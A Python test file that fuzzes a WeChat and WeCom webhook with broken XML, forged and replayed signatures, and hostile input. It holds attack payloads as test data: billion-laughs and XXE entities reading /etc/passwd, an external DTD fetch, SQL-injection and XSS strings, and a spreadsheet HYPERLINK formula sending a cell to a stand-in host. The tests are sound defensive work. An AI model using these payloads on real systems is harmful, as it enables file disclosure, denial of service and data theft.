"""Hostile and broken input on the Official Account webhook (/wechat) and the WeCom app callback (/wecom).

Properties (hypothesis): random and mutated XML never gets a 5xx or a traceback; without a valid signature
nothing is stored; with one, garbage gets WeChat's 200 ``success`` and whatever is answered is recorded.
Explicit cases: entities and DTDs, control characters, encodings, duplicate tags, sizes, replayed URLs,
forged signatures. Requests are signed and sealed by this file and WeRoBot, never by the app's own crypto.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import hashlib
import itertools
import os
import secrets
import struct
from io import BytesIO, StringIO
from urllib.parse import urlencode

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot.ledger.export import HEADERS, consultations_for, ledger_rows, to_csv, to_xlsx
from bot.ledger.tables import Consultation, InboundMessage, SeenSignature, Village
from tests.conftest import AES_KEY, APPID, TOKEN
from tests.test_bureau_support import logged_in, make_user
from tests.test_console_support import CHENGGUAN_HEDONG, PERSONAL, WANG, ask, login
from tests.wechat_client import ACCOUNT, cdata, signature, tag

SUCCESS = b"success"
WECOM_TOKEN, WECOM_AES, CORP = "WeComToken2026", "Z7jL5nHvQ0a9cPp2rT4xYb8dKe1fGh3jMn6sUw0vXyA", "ww7a6b5c4d3e2f1a0b"
# XML 1.0 forbids these even in CDATA; NUL is left out on purpose (it means a wrong encoding, see below).
CONTROL = [chr(c) for c in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20))]
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
_senders = itertools.count(1)
_msg_ids = itertools.count(8_100_000_000_000_000_001)


# ---- an independent WeChat side --------------------------------------------------------------------------
def seal(payload: bytes, aes_key: str, receive_id: str) -> str:
    """WeChat's AES framing written out here: random(16) ‖ length ‖ payload ‖ receive id, PKCS#7 to 32."""
    key = base64.b64decode(aes_key + "=")
    plain = os.urandom(16) + struct.pack(">I", len(payload)) + payload + receive_id.encode()
    pad = 32 - len(plain) % 32
    plain += bytes([pad]) * pad
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(encryptor.update(plain) + encryptor.finalize()).decode()


def fresh_sender() -> str:
    return f"oHostile{next(_senders):014d}"


def text_xml(sender: str, content: str, msg_id: int | None = None, create_time: int = 1763604000) -> str:
    return (
        f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><FromUserName>{cdata(sender)}</FromUserName>"
        f"<CreateTime>{create_time}</CreateTime><MsgType>{cdata('text')}</MsgType>"
        f"<Content>{cdata(content)}</Content><MsgId>{msg_id or next(_msg_ids)}</MsgId></xml>"
    )


class Poster:
    """Posts raw bodies to /wechat or /wecom, plaintext or sealed, with valid or chosen signatures."""

    def __init__(self, client, clock):
        self.client, self.clock = client, clock

    def ts(self) -> str:
        return str(int(self.clock.now().timestamp()))

    def wechat_plain(self, body: bytes, sig: str | None = None, ts: str | None = None, nonce: str | None = None):
        ts, nonce = ts or self.ts(), nonce or str(secrets.randbelow(10**9))
        query = {"signature": signature(TOKEN, ts, nonce) if sig is None else sig, "timestamp": ts, "nonce": nonce}
        return self.client.post("/wechat?" + urlencode(query), data=body, content_type="text/xml")

    def wechat_sealed(self, payload: bytes, good_msg_signature: bool = True, blob: str | None = None):
        ts, nonce = self.ts(), str(secrets.randbelow(10**9))
        blob = blob if blob is not None else seal(payload, AES_KEY, APPID)
        msg_sig = signature(TOKEN, ts, nonce, blob) if good_msg_signature else signature("forged", ts, nonce, blob)
        query = {
            "signature": signature(TOKEN, ts, nonce),
            "timestamp": ts,
            "nonce": nonce,
            "encrypt_type": "aes",
            "msg_signature": msg_sig,
        }
        body = f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><Encrypt>{cdata(blob)}</Encrypt></xml>"
        return self.client.post("/wechat?" + urlencode(query), data=body.encode(), content_type="text/xml")

    def wecom(self, payload: bytes | None = None, raw_body: bytes | None = None, good: bool = True):
        ts, nonce = self.ts(), str(secrets.randbelow(10**9))
        blob = seal(payload, WECOM_AES, CORP) if payload is not None else "bm90aGluZw=="
        body = raw_body or f"<xml><ToUserName>{cdata(CORP)}</ToUserName><Encrypt>{cdata(blob)}</Encrypt></xml>".encode()
        token = WECOM_TOKEN if good else "forged"
        query = {"msg_signature": signature(token, ts, nonce, blob), "timestamp": ts, "nonce": nonce}
        return self.client.post("/wecom?" + urlencode(query), data=body, content_type="text/xml")


@pytest.fixture
def post(client, clock) -> Poster:
    return Poster(client, clock)


@pytest.fixture
def with_wecom(services):
    services.settings = services.settings.with_overrides(
        wecom_corp_id=CORP,
        wecom_agent_id=1000002,
        wecom_secret="secret",
        wecom_token=WECOM_TOKEN,
        wecom_aes_key=WECOM_AES,
    )
    return services


def stored(services) -> int:
    with services.sessions() as session:
        return session.scalar(select(func.count()).select_from(InboundMessage))


def assert_no_crash(resp) -> None:
    """Never a 5xx, never a stack trace or an HTML error page: WeChat would show 「该公众号暂时无法提供服务」."""
    body = resp.get_data()
    assert resp.status_code < 500, body[:300]
    assert resp.mimetype != "text/html"
    for leak in (b"Traceback", b'File "', b"Error:", b"sqlalchemy", b"werkzeug"):
        assert leak not in body, body[:300]


def assert_answered_or_success(services, resp, quiet: tuple[bytes, ...] = (SUCCESS,)) -> None:
    """200 always; anything but the quiet answer must be a reply recorded in the ledger (nothing unrecorded)."""
    assert_no_crash(resp)
    assert resp.status_code == 200, resp.get_data()[:300]
    body = resp.get_data()
    if body in quiet:
        return
    with services.sessions() as session:
        assert session.scalar(select(func.count()).where(InboundMessage.response_body == body)) >= 1


def assert_dropped(services, resp, before: int, quiet: bytes = SUCCESS) -> None:
    """A valid signature on garbage: 200 with the quiet answer, and no inbound row."""
    assert_no_crash(resp)
    assert (resp.status_code, resp.get_data()) == (200, quiet)
    assert stored(services) == before


# ---- strategies ------------------------------------------------------------------------------------------
TAGS = ["xml", "ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId", "Event", "EventKey"]
TAGS += ["Encrypt", "Recognition", "MediaId", "a"]
SNIPPETS = ["&amp;", "&lt;", "&#8;", "&#0;", "&lol;", "]]>", "<!--c-->", "<?pi x?>", "text", "event", "123"]
leaf = st.one_of(
    st.text(max_size=20).map(cdata),
    st.text(max_size=20),
    st.sampled_from(SNIPPETS),
    st.text(min_size=30, max_size=300),  # wider than the columns (PostgreSQL refuses those)
    st.integers(0, 10**40).map(str),
)
element = st.recursive(
    leaf,
    lambda inner: st.tuples(st.sampled_from(TAGS), st.lists(inner, max_size=4)).map(
        lambda t: f"<{t[0]}>{''.join(t[1])}</{t[0]}>"
    ),
    max_leaves=20,
)
xmlish = st.tuples(
    st.sampled_from(["", '<?xml version="1.0"?>', '<?xml version="1.0" encoding="gbk"?>', "\ufeff"]),
    st.sampled_from(["xml", "xml", "root"]),
    st.lists(element, max_size=8),
).map(lambda t: f"{t[0]}<{t[1]}>{''.join(t[2])}</{t[1]}>")
encodings = st.sampled_from(["utf-8", "utf-8", "utf-16", "utf-16-le", "gbk", "latin-1"])
xmlish_bytes = st.tuples(xmlish, encodings).map(lambda t: t[0].encode(t[1], errors="replace"))
cjk = st.text(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5), min_size=1, max_size=20)


# ---- properties: /wechat ---------------------------------------------------------------------------------
@FUZZ
@given(body=st.one_of(st.binary(max_size=3000), xmlish_bytes))
def test_any_body_with_a_valid_signature_answers_200(services, post, body):
    assert_answered_or_success(services, post.wechat_plain(body))


@FUZZ
@given(payload=st.one_of(st.binary(max_size=2000), xmlish_bytes))
def test_any_sealed_payload_with_valid_signatures_answers_200(services, post, payload):
    assert_answered_or_success(services, post.wechat_sealed(payload))


@FUZZ
@given(body=st.one_of(st.binary(max_size=3000), xmlish_bytes), sig=st.text(max_size=50))
def test_without_a_valid_signature_nothing_is_stored(services, post, body, sig):
    ts = post.ts()
    assume(sig.strip().lower() != signature(TOKEN, ts, "1"))
    before = stored(services)
    resp = post.wechat_plain(body, sig=sig, ts=ts, nonce="1")
    assert_no_crash(resp)
    assert resp.status_code == 403
    assert stored(services) == before


@FUZZ
@given(payload=st.one_of(st.binary(max_size=2000), xmlish_bytes))
def test_sealed_payload_with_a_forged_msg_signature_stores_nothing(services, post, payload):
    before = stored(services)
    resp = post.wechat_sealed(payload, good_msg_signature=False)
    assert_no_crash(resp)
    assert resp.status_code == 403
    assert stored(services) == before


def _fields(msg_type: str, sender: str = "oX", **fields: str) -> str:
    parts = "".join(f"<{k}>{cdata(v)}</{k}>" for k, v in fields.items())
    return (
        f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><FromUserName>{cdata(sender)}"
        f"</FromUserName><CreateTime>1763604000</CreateTime><MsgType>{cdata(msg_type)}</MsgType>{parts}</xml>"
    )


printable = st.characters(exclude_categories=("Cs", "Cc"))  # control characters have their own tests
value = st.one_of(
    st.text(printable, max_size=12),
    st.text(printable, min_size=25, max_size=300).filter(lambda v: "]]>" not in v),
    st.integers(0, 10**40).map(str),
)


@FUZZ
@given(
    sender=value,
    msg_type=st.one_of(st.sampled_from(["text", "event", "image", "voice", "location", "link"]), value),
    msg_id=st.one_of(st.integers(0, 10**40).map(str), value),
    fields=st.dictionaries(st.sampled_from(["Content", "Event", "EventKey", "MediaId", "Recognition"]), value),
    sealed=st.booleans(),
)
def test_any_field_values_in_a_well_formed_message_answer_200(services, post, sender, msg_type, msg_id, fields, sealed):
    """Values of any length and kind, including wider than the database columns (PostgreSQL refuses those)."""
    body = _fields(msg_type, sender=sender, MsgId=msg_id, **fields).encode()
    assert_answered_or_success(services, post.wechat_sealed(body) if sealed else post.wechat_plain(body))


@FUZZ
@given(data=st.data(), sealed=st.booleans())
def test_truncated_message_is_dropped(services, post, data, sealed):
    body = text_xml(fresh_sender(), data.draw(cjk)).encode()
    cut = body[: data.draw(st.integers(1, len(body) - 1))]
    before = stored(services)
    assert_dropped(services, post.wechat_sealed(cut) if sealed else post.wechat_plain(cut), before)


@FUZZ
@given(data=st.data(), sealed=st.booleans())
def test_duplicated_tag_is_dropped(services, post, data, sealed):
    body = text_xml(fresh_sender(), data.draw(cjk))
    name = data.draw(st.sampled_from(["ToUserName", "FromUserName", "CreateTime", "MsgType", "Content", "MsgId"]))
    start, end = body.index(f"<{name}>"), body.index(f"</{name}>") + len(name) + 3
    twice = (body[:end] + body[start:end] + body[end:]).encode()
    before = stored(services)
    assert_dropped(services, post.wechat_sealed(twice) if sealed else post.wechat_plain(twice), before)


@FUZZ
@given(data=st.data(), sealed=st.booleans())
def test_control_characters_anywhere_are_removed_and_the_message_kept(services, post, data, sealed):
    sender, content = fresh_sender(), data.draw(cjk)
    body = text_xml(sender, content)
    for _ in range(data.draw(st.integers(1, 5))):
        at = data.draw(st.integers(0, len(body)))
        body = body[:at] + data.draw(st.sampled_from(CONTROL)) + body[at:]
    resp = post.wechat_sealed(body.encode()) if sealed else post.wechat_plain(body.encode())
    assert_answered_or_success(services, resp)
    assert resp.get_data() != SUCCESS  # a text message is answered
    with services.sessions() as session:
        row = session.scalar(select(InboundMessage).where(InboundMessage.sender == sender))
    assert row.text == content


@FUZZ
@given(data=st.data(), sealed=st.booleans())
def test_flipped_bytes_never_crash(services, post, data, sealed):
    body = bytearray(text_xml(fresh_sender(), data.draw(cjk)).encode())
    for _ in range(data.draw(st.integers(1, 4))):
        body[data.draw(st.integers(0, len(body) - 1))] = data.draw(st.integers(0, 255))
    resp = post.wechat_sealed(bytes(body)) if sealed else post.wechat_plain(bytes(body))
    assert_answered_or_success(services, resp)


@FUZZ
@given(content=cjk, encoding=st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32"]), sealed=st.booleans())
def test_utf16_and_utf32_bodies_are_dropped(services, post, content, encoding, sealed):
    body = text_xml(fresh_sender(), content).encode(encoding)
    before = stored(services)
    assert_dropped(services, post.wechat_sealed(body) if sealed else post.wechat_plain(body), before)


@FUZZ
@given(content=cjk, encoding=st.sampled_from(["gbk", "gb18030", "big5"]))
def test_legacy_chinese_encodings_never_crash(services, post, content, encoding):
    body = text_xml(fresh_sender(), content).encode(encoding, errors="replace")
    assert_answered_or_success(services, post.wechat_plain(body))


@FUZZ
@given(data=st.data())
def test_flipped_ciphertext_never_crashes_and_unsigned_flips_store_nothing(services, post, data):
    blob = list(seal(text_xml(fresh_sender(), data.draw(cjk)).encode(), AES_KEY, APPID))
    at = data.draw(st.integers(0, len(blob) - 1))
    blob[at] = data.draw(st.sampled_from("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=!"))
    blob = "".join(blob)
    assert_answered_or_success(services, post.wechat_sealed(b"", blob=blob))
    before = stored(services)
    resp = post.wechat_sealed(b"", blob=blob, good_msg_signature=False)
    assert (resp.status_code, stored(services)) == (403, before)


# ---- properties: /wecom ----------------------------------------------------------------------------------
@FUZZ
@given(payload=st.one_of(st.binary(max_size=2000), xmlish_bytes))
def test_wecom_any_sealed_payload_answers_200(with_wecom, post, payload):
    assert_answered_or_success(with_wecom, post.wecom(payload), quiet=(b"",))


@FUZZ
@given(payload=st.one_of(st.binary(max_size=2000), xmlish_bytes))
def test_wecom_forged_signature_stores_nothing(with_wecom, post, payload):
    before = stored(with_wecom)
    resp = post.wecom(payload, good=False)
    assert_no_crash(resp)
    assert resp.status_code == 403
    assert stored(with_wecom) == before


@FUZZ
@given(body=st.one_of(st.binary(max_size=2000), xmlish_bytes), good=st.booleans())
def test_wecom_garbage_envelope_stores_nothing(with_wecom, post, body, good):
    before = stored(with_wecom)
    resp = post.wecom(raw_body=body or b" ", good=good)
    assert_no_crash(resp)
    assert resp.status_code == 403 or (resp.status_code, resp.get_data()) == (200, b"")
    assert stored(with_wecom) == before


@FUZZ
@given(data=st.data())
def test_wecom_truncated_or_duplicated_message_is_dropped(with_wecom, post, data):
    body = text_xml("WangMing", data.draw(cjk))
    if data.draw(st.booleans()):
        mutated = body[: data.draw(st.integers(1, len(body) - 1))]
    else:
        start, end = body.index("<Content>"), body.index("</Content>") + len("</Content>")
        mutated = body[:end] + body[start:end] + body[end:]
    before = stored(with_wecom)
    assert_dropped(with_wecom, post.wecom(mutated.encode()), before, quiet=b"")


# ---- explicit cases --------------------------------------------------------------------------------------
LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 9))
HOSTILE_DTDS = {
    "billion laughs, 8 levels": f'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">{LAUGHS}]>',
    "external entity": '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://x.invalid/e.dtd"> %p;]>',
    "lower-case doctype": '<!doctype xml [<!entity xxe system "file:///etc/hostname">]>',
    "doctype hidden by a control character": '<!DOC\x08TYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
}


@pytest.mark.parametrize("dtd", HOSTILE_DTDS.values(), ids=HOSTILE_DTDS.keys())
@pytest.mark.parametrize("sealed", [False, True], ids=["plaintext", "safe mode"])
def test_dtds_and_entities_are_dropped(services, post, dtd, sealed):
    body = (dtd + text_xml(fresh_sender(), "&xxe;&lol8;").replace("<![CDATA[&xxe;&lol8;]]>", "&xxe;&lol8;")).encode()
    assert_dropped(services, post.wechat_sealed(body) if sealed else post.wechat_plain(body), 0)


def test_backspace_in_cdata_is_removed_and_the_question_answered(wechat, services, roster):
    """WeRoBot PR #809: WeChat delivered user text with a backspace, which expat refuses as not well-formed."""
    sender = fresh_sender()
    wechat.event(sender, "subscribe", "qrscene_370303001")
    resp = wechat.post(text_xml(sender, "离婚冷静\x08期多久"))
    assert "第一千零七十七条" in resp.text
    with services.sessions() as session:
        assert session.scalar(select(InboundMessage.text).where(InboundMessage.msg_type == "text")) == "离婚冷静期多久"


def test_nul_byte_is_a_wrong_encoding_and_dropped(services, post):
    """Decided: NUL is not stripped; it only occurs in UTF-16/32 bodies, never in UTF-8 text from WeChat."""
    assert_dropped(services, post.wechat_plain(text_xml(fresh_sender(), "宅基\x00地").encode()), 0)


NOT_UTF8 = {
    "invalid bytes": text_xml("oX", "宅基地").encode().replace("宅".encode(), b"\xff\xfe"),
    "utf-16 with BOM": text_xml("oX", "宅基地").encode("utf-16"),
    "utf-16-le without BOM": text_xml("oX", "abc").encode("utf-16-le"),
    "declared gbk": ('<?xml version="1.0" encoding="GBK"?>' + text_xml("oX", "abc")).encode(),
    "declared latin-1": ("<?xml version='1.0' encoding='ISO-8859-1'?>" + text_xml("oX", "abc")).encode(),
}


@pytest.mark.parametrize("body", NOT_UTF8.values(), ids=NOT_UTF8.keys())
def test_non_utf8_bodies_are_dropped(services, post, body):
    assert_dropped(services, post.wechat_plain(body), 0)


DUPLICATES = {
    "Content": "<Content>a</Content><Content>b</Content>",
    "FromUserName": "<FromUserName>oOther</FromUserName>",
    "MsgId": "<MsgId>1</MsgId>",
}


@pytest.mark.parametrize("extra", DUPLICATES.values(), ids=DUPLICATES.keys())
def test_duplicate_tags_are_dropped(services, post, extra):
    body = text_xml(fresh_sender(), "你好").replace("</xml>", extra + "</xml>").encode()
    assert_dropped(services, post.wechat_plain(body), 0)


def test_duplicate_encrypt_in_the_envelope_is_dropped(services, client, clock):
    ts, nonce = str(int(clock.now().timestamp())), "31"
    blob = seal(text_xml(fresh_sender(), "你好").encode(), AES_KEY, APPID)
    query = {
        "signature": signature(TOKEN, ts, nonce),
        "timestamp": ts,
        "nonce": nonce,
        "encrypt_type": "aes",
        "msg_signature": signature(TOKEN, ts, nonce, blob),
    }
    envelope = f"<xml><Encrypt>{cdata(blob)}</Encrypt><Encrypt>{cdata(blob)}</Encrypt></xml>"
    assert_dropped(services, client.post("/wechat?" + urlencode(query), data=envelope.encode()), 0)


TOO_WIDE = {
    "openid of 65 characters": text_xml("o" * 65, "你好"),
    "MsgId of 33 digits": text_xml("oX", "你好", msg_id=10**32),
    "MsgId in other digits": text_xml("oX", "你好").replace("<MsgId>", "<MsgId>١٢٣"),
    "MsgType of 33 characters": _fields("t" * 33, MsgId="5"),
    "Event of 65 characters": _fields("event", Event="E" * 65),
    "EventKey of 201 characters": _fields("event", Event="CLICK", EventKey="k" * 201),
    "MediaId of 201 characters": _fields("image", MediaId="m" * 201, MsgId="6"),
}


@pytest.mark.parametrize("body", TOO_WIDE.values(), ids=TOO_WIDE.keys())
def test_fields_wider_than_their_columns_are_dropped(services, post, body):
    """On PostgreSQL such a row cannot be stored: without this check the webhook answered 503, WeChat retried."""
    assert_dropped(services, post.wechat_plain(body.encode()), 0)


def test_event_dedupe_key_fits_its_column_however_long_the_parts(services, post):
    body = _fields("event", Event="E" * 64, EventKey="k" * 200, sender="o" * 64)
    assert_answered_or_success(services, post.wechat_plain(body.encode()))
    with services.sessions() as session:
        key = session.scalar(select(InboundMessage.dedupe_key))
    assert len(key) <= 200 and key.startswith("official:evt:#")


def test_oversized_sealed_body_is_413(services, post):
    resp = post.wechat_sealed(text_xml(fresh_sender(), "字" * 80_000).encode())
    assert resp.status_code == 413 and stored(services) == 0


def test_deep_nesting_just_under_the_cap_is_dropped(services, post):
    depth = (services.settings.max_body_bytes - 400) // len("<a></a>")
    body = text_xml(fresh_sender(), "x").replace(cdata("x"), "<a>" * depth + "</a>" * depth).encode()
    assert len(body) < services.settings.max_body_bytes
    assert_dropped(services, post.wechat_plain(body), 0)


# ---- replayed URLs (plaintext signatures do not cover the body) ---------------------------------------
def test_replayed_url_with_another_body_is_refused(services, post, roster):
    ts, nonce = post.ts(), "424242"
    first = post.wechat_plain(text_xml(fresh_sender(), "你好").encode(), ts=ts, nonce=nonce)
    assert first.status_code == 200
    forged = post.wechat_plain(text_xml(fresh_sender(), "我要举报").encode(), ts=ts, nonce=nonce)
    assert forged.status_code == 403
    assert stored(services) == 1


def test_true_retry_with_the_same_url_and_body_gets_the_stored_reply(services, post, roster):
    ts, nonce, body = post.ts(), "515151", text_xml(fresh_sender(), "你好").encode()
    first = post.wechat_plain(body, ts=ts, nonce=nonce)
    again = post.wechat_plain(body, ts=ts, nonce=nonce)
    assert (first.status_code, again.status_code) == (200, 200)
    assert first.get_data() == again.get_data() != SUCCESS
    assert stored(services) == 1


def test_safe_mode_url_cannot_carry_a_forged_plaintext_body(services, client, clock):
    """The URL of an encrypted callback, seen in a proxy log, replayed without encrypt_type and a new body."""
    ts, nonce = str(int(clock.now().timestamp())), "626262"
    blob = seal(text_xml("oRealVillager", "你好").encode(), AES_KEY, APPID)
    envelope = f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><Encrypt>{cdata(blob)}</Encrypt></xml>".encode()
    url = {"signature": signature(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce}
    sealed = {**url, "encrypt_type": "aes", "msg_signature": signature(TOKEN, ts, nonce, blob)}
    assert client.post("/wechat?" + urlencode(sealed), data=envelope).status_code == 200
    forged = text_xml("oSomeoneElse", "我要举报").encode()
    assert client.post("/wechat?" + urlencode(url), data=forged).status_code == 403
    assert stored(services) == 1


def test_signatures_are_forgotten_once_their_timestamp_window_has_passed(services, post, clock):
    for _ in range(3):
        post.wechat_plain(text_xml(fresh_sender(), "你好").encode())
    clock.at = clock.now() + dt.timedelta(seconds=services.settings.timestamp_window + 1)
    post.wechat_plain(text_xml(fresh_sender(), "你好").encode())
    with services.sessions() as session:
        assert session.scalar(select(func.count()).select_from(SeenSignature)) == 1


# ---- forged signatures ------------------------------------------------------------------------------------
def _forged(ts: str) -> dict[str, dict[str, str]]:
    future = str(int(ts) + 3600)
    return {
        "another token": {"signature": signature("nottheToken", ts, "1"), "timestamp": ts, "nonce": "1"},
        "another nonce": {"signature": signature(TOKEN, ts, "2"), "timestamp": ts, "nonce": "1"},
        "empty": {"signature": "", "timestamp": ts, "nonce": "1"},
        "no timestamp": {"signature": signature(TOKEN, "", "1"), "nonce": "1"},
        "no nonce": {"signature": signature(TOKEN, ts, ""), "timestamp": ts},
        "timestamp not a number": {"signature": signature(TOKEN, "x1", "1"), "timestamp": "x1", "nonce": "1"},
        "timestamp an hour ahead": {"signature": signature(TOKEN, future, "1"), "timestamp": future, "nonce": "1"},
        "sha1 of the body instead": {"signature": hashlib.sha1(b"x").hexdigest(), "timestamp": ts, "nonce": "1"},
        "safe mode without msg_signature": {
            "signature": signature(TOKEN, ts, "1"),
            "timestamp": ts,
            "nonce": "1",
            "encrypt_type": "aes",
        },
    }


@pytest.mark.parametrize(
    "case",
    [
        "another token",
        "another nonce",
        "empty",
        "no timestamp",
        "no nonce",
        "timestamp not a number",
        "timestamp an hour ahead",
        "sha1 of the body instead",
        "safe mode without msg_signature",
    ],
)
def test_forged_signatures_are_403_and_store_nothing(services, client, clock, case):
    query = _forged(str(int(clock.now().timestamp())))[case]
    blob = seal(text_xml("oX", "你好").encode(), AES_KEY, APPID)
    body = text_xml("oX", "你好") if "encrypt_type" not in query else f"<xml><Encrypt>{cdata(blob)}</Encrypt></xml>"
    resp = client.post("/wechat?" + urlencode(query), data=body.encode())
    assert_no_crash(resp)
    assert resp.status_code == 403
    assert stored(services) == 0


def test_upper_case_hex_signature_is_the_same_signature(services, post, roster):
    """Not a forgery: WeChat sends lower-case hex, the comparison is case-insensitive and constant-time."""
    ts = post.ts()
    resp = post.wechat_plain(
        text_xml(fresh_sender(), "你好").encode(), sig=signature(TOKEN, ts, "7").upper(), ts=ts, nonce="7"
    )
    assert resp.status_code == 200 and tag(resp.get_data(as_text=True), "MsgType") == "text"


# ---- SQL-looking and script-looking text: stored verbatim, shown escaped, exported as text ---------------
HOSTILE_TEXT = (
    PERSONAL + "'); DROP TABLE consultations; -- \" OR 1=1 <script>alert('x')</script><img src=x onerror=alert(1)>"
)
FORMULA_TEXT = '=HYPERLINK("http://x.invalid/?q="&A1,"点我查看")' + PERSONAL


def test_hostile_text_is_stored_verbatim(wechat, roster):
    c = ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
    assert c.question == HOSTILE_TEXT
    with roster.sessions() as session:
        assert session.scalar(select(InboundMessage.text).where(InboundMessage.msg_type == "text")) == HOSTILE_TEXT
        assert session.scalar(select(func.count()).select_from(Consultation)) == 1  # the table is still there


def test_adviser_console_and_bureau_dashboard_show_hostile_text_escaped(wechat, roster, client, app):
    c = ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
    login(client, roster, WANG)
    make_user(roster, "county_clerk")
    bureau = app.test_client()
    logged_in(bureau, "county_clerk")
    for page in (client.get(f"/adviser/consultations/{c.id}"), bureau.get(f"/bureau/consultations/{c.id}")):
        html = page.get_data(as_text=True)
        assert page.status_code == 200
        assert "&lt;script&gt;alert(" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "<script>alert" not in html and "<img src=x" not in html
        assert "DROP TABLE consultations" in html


def test_ledger_export_keeps_hostile_text_as_plain_text(wechat, roster):
    ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
    ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, FORMULA_TEXT)
    day = dt.date(2026, 11, 20)
    with roster.sessions() as session:
        village = session.scalar(select(Village).where(Village.code == CHENGGUAN_HEDONG))
        rows = ledger_rows(consultations_for(session, village, day, day))
    question = HEADERS.index("问题")
    sheet = load_workbook(BytesIO(to_xlsx(rows, "河东村"))).active
    cells = [row[question] for row in sheet.iter_rows(min_row=3)]
    assert [cell.value for cell in cells] == [HOSTILE_TEXT, FORMULA_TEXT]
    assert [cell.data_type for cell in cells] == ["s", "s"]  # a formula would be "f" and run in Excel/WPS
    exported = list(csv.reader(StringIO(to_csv(rows))))[1:]
    assert [r[question] for r in exported] == [HOSTILE_TEXT, "'" + FORMULA_TEXT]  # OWASP: a leading apostrophe
